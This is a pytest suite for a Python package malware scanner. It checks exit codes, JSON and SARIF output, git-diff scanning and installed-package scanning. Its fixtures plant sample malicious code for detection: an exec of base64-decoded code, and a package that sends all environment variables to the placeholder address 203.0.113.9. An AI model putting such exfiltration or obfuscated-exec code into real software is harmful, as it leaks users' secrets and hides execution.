"""`pipwarden scan` and `pipwarden rules`, and the `code` check of the pipeline."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from pipwarden.candidate import Candidate, VetContext
from pipwarden.checks import code, registry
from pipwarden.index import IndexClient
from pipwarden.policy import Policy
from pipwarden.scan.rules import CATALOGUE
from pipwarden.store import Store
from pipwarden.verdict import INSTALL
from tests.support.builders import build_wheel

SCHEMA = Path(__file__).parent / "data" / "sarif-2.1.0-subset.schema.json"
EVIL = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
PICKLE = "import pickle\ndef load(b):\n    return pickle.loads(b)\n"


def wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    filename, data = build_wheel(name, "1.0", files)
    path = tmp_path / filename
    path.write_bytes(data)
    return path


@pytest.fixture
def evil_wheel(tmp_path: Path) -> Path:
    return wheel(tmp_path, "evil", {"evil/__init__.py": EVIL, "evil/util.py": PICKLE})


@pytest.fixture
def good_wheel(tmp_path: Path) -> Path:
    return wheel(tmp_path, "good", {"good/__init__.py": "x = 1\n"})


def test_text_output_and_exit_codes(run_cli: Any, evil_wheel: Path, good_wheel: Path) -> None:
    res = run_cli("scan", str(good_wheel))
    assert res.exit_code == 0
    assert "clean" in res.stdout
    res = run_cli("scan", str(evil_wheel), str(good_wheel), "--jobs", "1")
    assert res.exit_code == 1
    assert "malicious" in res.stdout
    assert "obfuscation.exec-decoded" in res.stdout
    assert "evil/__init__.py:2" in res.stdout
    assert "2 targets: 1 clean, 0 suspicious, 1 malicious" in res.stdout


def test_fail_on_threshold(run_cli: Any, tmp_path: Path) -> None:
    low_only = wheel(tmp_path, "lowonly", {"lowonly/__init__.py": PICKLE})
    assert run_cli("scan", str(low_only)).exit_code == 0
    assert run_cli("scan", str(low_only), "--fail-on", "low").exit_code == 1


def test_json_output_matches_design(run_cli: Any, evil_wheel: Path) -> None:
    res = run_cli("scan", str(evil_wheel), "--format", "json")
    assert res.exit_code == 1
    doc = json.loads(res.stdout)
    assert set(doc) == {"tool", "targets"}
    assert doc["tool"]["name"] == "pipwarden" and doc["tool"]["version"]
    (target,) = doc["targets"]
    assert set(target) == {"target", "verdict", "findings", "error"}
    assert target["target"] == str(evil_wheel)
    assert target["verdict"] == "malicious"
    assert target["error"] is None
    for f in target["findings"]:
        assert set(f) == {"rule", "severity", "path", "line", "message", "evidence"}
    hit = next(f for f in target["findings"] if f["rule"] == "obfuscation.exec-decoded")
    assert hit["severity"] == "critical"
    assert hit["path"] == "evil/__init__.py"
    assert hit["line"] == 2
    assert "b64decode" in hit["evidence"]


def test_sarif_output_validates_and_is_written_to_file(
    run_cli: Any, evil_wheel: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.sarif"
    res = run_cli("scan", str(evil_wheel), "--format", "sarif", "-o", str(out))
    assert res.exit_code == 1
    assert res.stdout == ""
    doc = json.loads(out.read_text())
    jsonschema.Draft4Validator(json.loads(SCHEMA.read_text())).validate(doc)
    run = doc["runs"][0]
    rule_ids = [r["id"] for r in run["tool"]["driver"]["rules"]]
    assert set(rule_ids) >= {r.id for r in CATALOGUE}
    result = next(r for r in run["results"] if r["ruleId"] == "obfuscation.exec-decoded")
    assert rule_ids[result["ruleIndex"]] == "obfuscation.exec-decoded"
    loc = result["locations"][0]["physicalLocation"]
    assert loc["artifactLocation"]["uri"].endswith("evil/__init__.py")
    assert loc["region"]["startLine"] == 2
    driver_rule = run["tool"]["driver"]["rules"][result["ruleIndex"]]
    assert "external/cwe/cwe-506" in driver_rule["properties"]["tags"]


def test_sarif_schema_rejects_broken_logs() -> None:
    validator = jsonschema.Draft4Validator(json.loads(SCHEMA.read_text()))
    assert not validator.is_valid({"version": "2.0.0", "runs": []})
    bad_level = {
        "version": "2.1.0",
        "runs": [
            {
                "tool": {"driver": {"name": "x"}},
                "results": [{"level": "bad", "message": {"text": "m"}}],
            }
        ],
    }
    assert not validator.is_valid(bad_level)


def test_missing_path_and_no_target_exit_2(run_cli: Any, tmp_path: Path) -> None:
    res = run_cli("scan", str(tmp_path / "absent.whl"))
    assert res.exit_code == 2
    assert res.stderr.startswith("pipwarden: error:") and "no such file" in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1
    assert run_cli("scan").exit_code == 2


def test_folder_in_git_repo_respects_gitignore_and_diff(run_cli: Any, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()

    def git(*args: str) -> None:
        subprocess.run(
            [
                "git",
                "-C",
                str(repo),
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.invalid",
                *args,
            ],
            check=True,
            capture_output=True,
        )

    git("init", "-q")
    (repo / ".gitignore").write_text("build/\n")
    (repo / "build").mkdir()
    (repo / "build" / "gen.py").write_text(EVIL)
    (repo / "old.py").write_text(EVIL)
    (repo / "keep.py").write_text("x = 1\n")
    git("add", ".")
    git("commit", "-q", "-m", "one")
    (repo / "keep.py").write_text("x = 2\n")

    full = json.loads(run_cli("scan", str(repo), "--format", "json").stdout)
    paths = {f["path"] for f in full["targets"][0]["findings"]}
    assert "old.py" in paths and "build/gen.py" not in paths

    res = run_cli("scan", str(repo), "--diff", "HEAD", "--format", "json")
    assert res.exit_code == 0
    doc = json.loads(res.stdout)
    assert doc["targets"][0]["verdict"] == "clean"

    res = run_cli("scan", str(repo), "--diff", "no-such-rev")
    assert res.exit_code == 2 and "git failed" in res.stderr


def test_parallel_jobs_keep_order(
    run_cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipwarden.cli import scan as scan_cli

    monkeypatch.setattr(scan_cli, "CHUNK", 2)
    folder = tmp_path / "src"
    folder.mkdir()
    for i in range(5):
        (folder / f"m{i}.py").write_text("x = 1\n" if i != 3 else EVIL)
    w = wheel(tmp_path, "good", {"good/__init__.py": "x = 1\n"})
    res = run_cli("scan", str(folder), str(w), "--jobs", "2", "--format", "json")
    doc = json.loads(res.stdout)
    assert [t["target"] for t in doc["targets"]] == [str(folder), str(w)]
    assert doc["targets"][0]["verdict"] == "malicious"
    assert [f["path"] for f in doc["targets"][0]["findings"]] == ["m3.py"]


def test_installed_distribution(run_cli: Any) -> None:
    res = run_cli("scan", "--installed", "iniconfig", "--format", "json")
    assert res.exit_code == 0, res.stdout
    doc = json.loads(res.stdout)
    assert doc["targets"][0]["target"] == "installed:iniconfig"
    assert doc["targets"][0]["verdict"] == "clean"
    res = run_cli("scan", "--installed", "no-such-dist-xyz")
    assert res.exit_code == 2 and "no installed distribution" in res.stderr


def test_rules_command(run_cli: Any) -> None:
    res = run_cli("rules")
    assert res.exit_code == 0
    for r in CATALOGUE:
        assert r.id in res.stdout
    doc = json.loads(run_cli("rules", "--format", "json").stdout)
    # `rules` lists the whole registry (names, sdist, advisories...), the scanner's included.
    assert {r.id for r in CATALOGUE} <= {d["id"] for d in doc}
    assert {"id", "title", "severity", "cwe", "description", "fix", "samples"} == set(doc[0])


def _ctx() -> VetContext:
    return VetContext(policy=Policy(), store=Store(), index=IndexClient(None))


def test_code_check_in_registry_and_findings(evil_wheel: Path) -> None:
    assert "code" in [c.name for c in registry()]
    cand = Candidate(
        name="evil",
        version="1.0",
        filename=evil_wheel.name,
        url="",
        sha256=None,
        kind="wheel",
        path=evil_wheel,
    )
    findings = code.run(cand, _ctx())
    assert findings and all(f.check == "code" and f.package == "evil" for f in findings)
    assert "obfuscation.exec-decoded" in {f.rule for f in findings}
    # Low findings (pickle use) do not reach install decisions.
    assert "unsafe-deserialization.pickle" not in {f.rule for f in findings}
    cand.path = None
    assert code.run(cand, _ctx()) == []


def test_code_check_prepare_scans_on_all_cores(evil_wheel: Path, tmp_path: Path) -> None:
    """prepare() scans uncached artifacts in worker processes; run() gives the same findings."""
    import shutil

    other = tmp_path / "copy" / evil_wheel.name
    other.parent.mkdir()
    shutil.copyfile(evil_wheel, other)
    cands = [
        Candidate("evil", "1.0", evil_wheel.name, "", "a" * 64, "wheel", path=evil_wheel),
        Candidate("evil2", "1.0", other.name, "", "b" * 64, "wheel", path=other),
    ]
    sequential = [code.run(c, _ctx()) for c in cands]
    ctx = _ctx()
    code.prepare(cands, ctx)
    if (os.cpu_count() or 1) >= 2:
        assert set(ctx.scratch["code.results"]) == {"a" * 64, "b" * 64}
    assert [code.run(c, ctx) for c in cands] == sequential


def test_action_and_pre_commit_definitions() -> None:
    import yaml

    root = Path(__file__).resolve().parents[1]
    action = yaml.safe_load((root / "action.yml").read_text())
    assert action["runs"]["using"] == "composite"
    steps = action["runs"]["steps"]
    assert any(s.get("uses", "").startswith("github/codeql-action/upload-sarif") for s in steps)
    scan_step = next(s for s in steps if s.get("id") == "scan")
    assert "pipwarden scan" in scan_step["run"] and "--format sarif" in scan_step["run"]
    assert set(action["inputs"]) >= {"paths", "diff", "fail-on", "sarif-file"}
    (hook,) = yaml.safe_load((root / ".pre-commit-hooks.yaml").read_text())
    assert hook["id"] == "pipwarden-scan"
    assert hook["entry"].startswith("pipwarden scan")
    assert hook["language"] == "python"


def test_code_check_caps_findings_of_a_clean_target(tmp_path: Path) -> None:
    """A lone medium finding on a target the scanner calls clean does not warn an install."""
    from pipwarden.findings import Severity

    name, data = build_wheel(
        "gitinfo",
        "1.0",
        files={
            "gitinfo/__init__.py": "import subprocess\n"
            "REV = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n"
        },
    )
    wheel = tmp_path / name
    wheel.write_bytes(data)
    from pipwarden.scan import scan_target

    raw = scan_target(wheel)
    assert raw.verdict == "clean"
    assert any(f.severity == Severity.MEDIUM for f in raw.findings)
    cand = Candidate("gitinfo", "1.0", name, "", None, "wheel", path=wheel)
    findings = code.run(cand, _ctx())
    assert findings and all(f.severity == Severity.LOW for f in findings)
    assert Policy().verdict("gitinfo", findings).label == "allow"
    # the fix says what a low finding on an allowed package calls for, not the rule's own
    assert all(f.remediation == INSTALL.capped_fix for f in findings)
    assert {f.remediation for f in raw.findings if f.severity == Severity.MEDIUM} != {
        INSTALL.capped_fix
    }


def test_installed_distribution_of_another_environment(run_cli: Any, tmp_path: Path) -> None:
    from pipwarden import environment

    venv = tmp_path / "env"
    environment.create_venv(venv)
    site = environment.site_packages(environment.find_target(str(venv)))[0]
    (site / "wt_other").mkdir()
    (site / "wt_other" / "__init__.py").write_text(
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://203.0.113.9/x', data=str(os.environ).encode())\n"
    )
    info = site / "wt_other-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: wt-other\nVersion: 1.0\n")
    (info / "RECORD").write_text("wt_other/__init__.py,,\nwt_other-1.0.dist-info/METADATA,,\n")
    res = run_cli("scan", "--installed", "wt-other", "-p", str(venv), "--format", "json")
    assert res.exit_code == 1, res.stderr
    target = json.loads(res.stdout)["targets"][0]
    assert target["target"] == "installed:wt-other" and target["verdict"] != "clean"
    assert any(f["path"] == "wt_other/__init__.py" for f in target["findings"])
    # this interpreter's packages are not that environment's
    res = run_cli("scan", "--installed", "iniconfig", "-p", str(venv))
    assert res.exit_code == 2 and "no installed distribution named 'iniconfig' in" in res.stderr
